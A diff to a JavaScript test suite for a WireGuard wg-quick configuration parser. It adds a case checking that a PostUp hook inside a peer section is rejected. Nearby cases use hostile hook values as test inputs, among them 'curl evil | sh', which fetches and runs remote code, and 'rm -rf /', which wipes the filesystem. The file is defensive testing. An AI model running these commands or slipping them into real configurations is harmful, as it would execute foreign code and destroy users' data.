@@ -67,6 +67,7 @@ describe("wg-quick parse", () => {
     ["unknown key", `${wgQuick()}\nColour = blue\n`, "Peer[1].Colour", /unknown key "Colour"/],
     ["PostUp refused", wgQuick().replace("DNS = 10.66.0.1", "PostUp = curl evil | sh"), "Interface.PostUp", /does not run commands/],
     ["PreDown refused", wgQuick().replace("DNS = 10.66.0.1", "PreDown = rm -rf /"), "Interface.PreDown", /does not run commands/],
+    ["PostUp in a peer refused", `${wgQuick()}PostUp = ip route del default\n`, "Peer[1].PostUp", /does not run commands/],
     ["SaveConfig refused", wgQuick().replace("DNS = 10.66.0.1", "SaveConfig = true"), "Interface.SaveConfig", /never writes back/],
     ["peer without key", "[Interface]\nAddress = 10.0.0.2/32\n[Peer]\nAllowedIPs = 0.0.0.0/0\n", "Peer[1].PublicKey", /required/],
     ["no interface", "[Peer]\nPublicKey = x\n", "Peer[1].PublicKey", /WireGuard key/],
